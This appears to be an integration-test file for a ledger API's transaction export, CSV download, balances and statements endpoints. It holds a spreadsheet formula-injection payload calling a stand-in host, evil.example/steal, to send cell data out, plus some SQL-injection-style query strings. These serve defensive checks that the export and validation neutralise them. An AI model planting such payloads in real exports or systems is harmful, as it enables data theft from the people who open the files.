import { execFile } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { describe, expect, it } from 'vitest';
import { encodeCursor } from '../../api/cursor.js';
import { testContract } from '../support/harness.js';
import { type ProgramUnderTest, withProgram } from '../support/program.js';
import { TEST_PROGRAM_ENV } from '../support/test-suppliers.js';

/*
 * The global ledger over HTTP, on a database of its own so that the export holds this file's
 * transactions only. Orders go through the engine: created, paid, released by their workflows.
 */
let p: ProgramUnderTest;
withProgram(
  (ready) => {
    p = ready;
  },
  { env: TEST_PROGRAM_ENV },
);

const INJECTION = '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for your refund")';

async function paidOrder(reference: string) {
  const enrolled = await p.api.call('PUT', '/v1/suppliers/supplier-1', {
    body: { name: 'Steel Supplier', country: 'DE', enrolled: true },
  });
  expect([200, 201]).toContain(enrolled.status);
  const contract = testContract();
  expect((await p.api.call('POST', '/v1/orders', { body: contract })).status).toBe(201);
  const paid = await p.api.call('POST', `/v1/orders/${contract.orderId}/payments`, {
    body: { amount: contract.amount, reference },
  });
  expect(paid.status).toBe(200);
  return contract;
}

/** The cells of the first sheet of a flat ODF spreadsheet, as LibreOffice wrote them. */
interface Cell {
  type: string;
  value: string;
  text: string;
  formula?: string;
}
function sheetRows(fods: string): Cell[][] {
  const decode = (s: string) =>
    s
      .replaceAll('&apos;', "'")
      .replaceAll('&quot;', '"')
      .replaceAll('&lt;', '<')
      .replaceAll('&gt;', '>')
      .replaceAll('&amp;', '&');
  const table = fods.slice(fods.indexOf('<table:table '), fods.indexOf('</table:table>'));
  return [...table.matchAll(/<table:table-row[^>]*>([\s\S]*?)<\/table:table-row>/g)].map(([, row]) =>
    [...(row ?? '').matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)].flatMap(
      ([, attrs = '', body = '']) => {
        const repeat = Number(/table:number-columns-repeated="(\d+)"/.exec(attrs)?.[1] ?? 1);
        const cell: Cell = {
          type: /office:value-type="([^"]+)"/.exec(attrs)?.[1] ?? 'empty',
          value: decode(/office:value="([^"]*)"/.exec(attrs)?.[1] ?? ''),
          text: decode([...body.matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map(([, t]) => t).join('\n')),
          formula: /table:formula="([^"]*)"/.exec(attrs)?.[1],
        };
        return Array.from({ length: Math.min(repeat, 16) }, () => cell);
      },
    ),
  );
}

/** Opens the CSV as an accountant does, with LibreOffice Calc (headless), comma-separated, UTF-8. */
async function openInCalc(csv: string): Promise<Cell[][]> {
  const dir = await mkdtemp(join(tmpdir(), 'ledger-csv-'));
  try {
    await writeFile(join(dir, 'ledger.csv'), csv);
    await promisify(execFile)(
      'soffice',
      [
        `-env:UserInstallation=file://${dir}/profile`,
        '--headless',
        '--infilter=CSV:44,34,76,1',
        '--convert-to',
        'fods',
        '--outdir',
        dir,
        join(dir, 'ledger.csv'),
      ],
      { timeout: 90_000 },
    );
    return sheetRows(await readFile(join(dir, 'ledger.fods'), 'utf8'));
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
}

describe('GET /v1/ledger/transactions', () => {
  it('exports every transaction with its entries in commit order, paged by cursor, to any role', async () => {
    const before = await p.api.call('GET', '/v1/ledger/transactions?limit=1000', { as: 'reader' });
    expect(before.status).toBe(200);
    const start = Number(before.body.cursor);
    const first = await paidOrder('wire-A');
    const second = await paidOrder('wire-B');

    const seen: { position: number; orderId: string; kind: string }[] = [];
    let after = String(start);
    for (;;) {
      const page = await p.api.call('GET', `/v1/ledger/transactions?after=${after}&limit=1`, {
        as: 'reader',
      });
      expect(page.status).toBe(200);
      expect(page.headers.get('link')).toBe(
        `</v1/ledger/transactions?after=${page.body.cursor}&limit=1>; rel="next"`,
      );
      if (page.body.transactions.length === 0) {
        expect(page.body.cursor).toBe(after);
        break;
      }
      seen.push(...page.body.transactions);
      after = page.body.cursor;
    }
    expect(seen.map((t) => [t.position, t.orderId, t.kind])).toEqual([
      [start + 1, first.orderId, 'funding'],
      [start + 2, second.orderId, 'funding'],
    ]);
    const all = await p.api.call('GET', `/v1/ledger/transactions?after=${start}`, { as: 'arbitrator' });
    expect(all.body.transactions[0]).toMatchObject({
      transactionId: expect.any(String),
      createdAt: expect.any(String),
      amount: first.amount,
      currency: 'USD',
      idempotencyKey: `${first.orderId}:payment:wire-A`,
      reference: 'wire-A',
      method: 'tt',
      entries: [
        { entryId: expect.any(String), account: 'buyer:buyer-1:USD', amount: -first.amount },
        { entryId: expect.any(String), account: `escrow:${first.orderId}`, amount: first.amount },
      ],
    });
    // [from, to) on createdAt: nothing of ours before the first payment.
    const createdAt = all.body.transactions[0].createdAt as string;
    const earlier = await p.api.call(
      'GET',
      `/v1/ledger/transactions?after=${start}&to=${encodeURIComponent(createdAt)}`,
      { as: 'reader' },
    );
    expect(earlier.body.transactions).toEqual([]);
    const from = await p.api.call(
      'GET',
      `/v1/ledger/transactions?after=${start}&from=${encodeURIComponent(createdAt)}`,
      { as: 'reader' },
    );
    expect(from.body.transactions).toHaveLength(2);
  });

  it('answers text/csv one row per entry that LibreOffice opens as columns, a formula in a reference kept as text', async () => {
    const order = await paidOrder(INJECTION);
    const json = await p.api.call('GET', '/v1/ledger/transactions?limit=1000', { as: 'reader' });
    const mine = json.body.transactions.find((t: { orderId: string }) => t.orderId === order.orderId);
    expect(mine.reference).toBe(INJECTION);

    const csv = await p.api.call('GET', '/v1/ledger/transactions?limit=1000', {
      as: 'reader',
      headers: { accept: 'text/csv' },
    });
    expect(csv.status).toBe(200);
    expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    const lines = (csv.body as string).split('\r\n');
    expect(lines[0]).toBe(
      'transactionId,createdAt,kind,orderId,account,amount,currency,idempotencyKey,reference,method',
    );
    const entries = json.body.transactions.reduce(
      (n: number, t: { entries: unknown[] }) => n + t.entries.length,
      0,
    );
    expect(lines.filter((l) => l !== '')).toHaveLength(1 + entries);

    const rows = await openInCalc(csv.body);
    expect(rows[0]?.slice(0, 10).map((c) => c.text)).toEqual(lines[0]?.split(','));
    const escrowRow = rows.find((r) => r[4]?.text === `escrow:${order.orderId}`);
    expect(escrowRow?.[0]).toMatchObject({ type: 'float', value: mine.transactionId });
    expect(escrowRow?.[2]).toMatchObject({ type: 'string', text: 'funding' });
    expect(escrowRow?.[5]).toMatchObject({ type: 'float', value: String(order.amount) });
    expect(escrowRow?.[8]).toEqual({ type: 'string', value: '', text: `'${INJECTION}`, formula: undefined });
    const buyerRow = rows.find(
      (r) => r[0]?.value === mine.transactionId && r[4]?.text === 'buyer:buyer-1:USD',
    );
    expect(buyerRow?.[5]).toMatchObject({ type: 'float', value: String(-order.amount) });
    // Not one cell of the sheet is a formula.
    expect(rows.flat().filter((c) => c.formula !== undefined)).toEqual([]);
  });

  it('refuses hostile queries with a 400 problem naming the field, and callers without a key', async () => {
    for (const [query, path] of [
      ['limit=0', 'query.limit'],
      ['limit=1001', 'query.limit'],
      ['limit=ten', 'query.limit'],
      ['after=-1', 'query.after'],
      ['after=9007199254740993', 'query.after'],
      ['after=1%20OR%201=1', 'query.after'],
      ['from=yesterday', 'query.from'],
      ['to=2026-13-01T00:00:00Z', 'query.to'],
      ['from=2026-12-02T00:00:00Z&to=2026-12-01T00:00:00Z', 'query.to'],
      ['format=csv', 'query.format'],
    ] as const) {
      const r = await p.api.call('GET', `/v1/ledger/transactions?${query}`, { as: 'reader' });
      expect(r.status, query).toBe(400);
      expect(r.headers.get('content-type')).toContain('application/problem+json');
      expect(r.body.errors.map((e: { path: string }) => e.path)).toContain(path);
    }
    expect((await p.api.call('GET', '/v1/ledger/transactions', { as: null })).status).toBe(401);
    expect((await p.api.call('GET', '/v1/ledger/balances', { key: 'sk_nope' })).status).toBe(401);
  });
});

describe('GET /v1/ledger/balances', () => {
  it("answers every account's balance at an instant, paged with the first page's instant", async () => {
    const order = await paidOrder('wire-C');
    const snapshot = await p.api.call('GET', `/v1/orders/${order.orderId}/ledger`, { as: 'reader' });
    const paidAt = Date.parse(snapshot.body.entries[0].createdAt);
    const escrow = `escrow:${order.orderId}`;

    const atPayment = await p.api.call(
      'GET',
      `/v1/ledger/balances?limit=1000&asOf=${new Date(paidAt).toISOString()}`,
      { as: 'reader' },
    );
    expect(atPayment.status).toBe(200);
    const now = await p.api.call('GET', '/v1/ledger/balances?limit=1000', { as: 'reader' });
    const before = await p.api.call(
      'GET',
      `/v1/ledger/balances?asOf=${new Date(paidAt - 1).toISOString()}&limit=1000`,
      {
        as: 'reader',
      },
    );
    const balanceOf = (r: typeof now, account: string) =>
      r.body.balances.find((b: { account: string }) => b.account === account)?.balance;
    expect(balanceOf(atPayment, escrow)).toBe(order.amount);
    expect(balanceOf(now, escrow)).toBe(order.amount);
    expect(balanceOf(before, escrow)).toBeUndefined();
    // Double entry: every currency's balances sum to zero at any instant.
    expect(now.body.balances.reduce((s: number, b: { balance: number }) => s + b.balance, 0)).toBe(0);

    const walked: string[] = [];
    let cursor: string | null = null;
    do {
      const page: typeof now = await p.api.call(
        'GET',
        `/v1/ledger/balances?limit=2&asOf=${now.body.asOf}${cursor ? `&cursor=${cursor}` : ''}`,
        { as: 'reader' },
      );
      expect(page.status).toBe(200);
      expect(page.body.asOf).toBe(now.body.asOf);
      walked.push(...page.body.balances.map((b: { account: string }) => b.account));
      cursor = page.body.nextCursor;
    } while (cursor);
    expect(walked).toEqual(now.body.balances.map((b: { account: string }) => b.account));
    expect(walked).toEqual([...walked].sort());

    const page = await p.api.call('GET', '/v1/ledger/balances?limit=1', { as: 'reader' });
    const other = await p.api.call(
      'GET',
      `/v1/ledger/balances?cursor=${page.body.nextCursor}&asOf=2026-01-01T00:00:00Z`,
      { as: 'reader' },
    );
    expect(other.status).toBe(400);
    expect(other.body.errors[0].path).toBe('query.asOf');
    // Cursors made up with a right digest: what they hold is refused like any bad input.
    const forged = [
      Buffer.from('{not json'),
      Buffer.from(JSON.stringify(['not a time', 'a'])),
      Buffer.from('[1,2]'),
    ].map((token) => `cursor=${encodeCursor(token, 'balances')}`);
    for (const query of ['cursor=made-up', 'asOf=now', 'limit=-3', `cursor=${'a'.repeat(5000)}`, ...forged]) {
      const r = await p.api.call('GET', `/v1/ledger/balances?${query}`, { as: 'reader' });
      expect(r.status, query).toBe(400);
      expect(r.headers.get('content-type')).toContain('application/problem+json');
    }
  });
});

describe('GET /v1/ledger/statements/:date', () => {
  it('answers 404 for a day without a statement and 400 for what is no date', async () => {
    const none = await p.api.call('GET', '/v1/ledger/statements/2020-01-01', { as: 'reader' });
    expect(none.status).toBe(404);
    expect(none.body.type).toBe('/problems/statement-not-found');
    for (const date of ['2026-02-30', '20260101', '2026-1-1', "2026-01-01'--"]) {
      const r = await p.api.call('GET', `/v1/ledger/statements/${encodeURIComponent(date)}`, {
        as: 'reader',
      });
      expect(r.status, date).toBe(400);
      expect(r.body.errors[0].path).toBe('params.date');
    }
  });
});
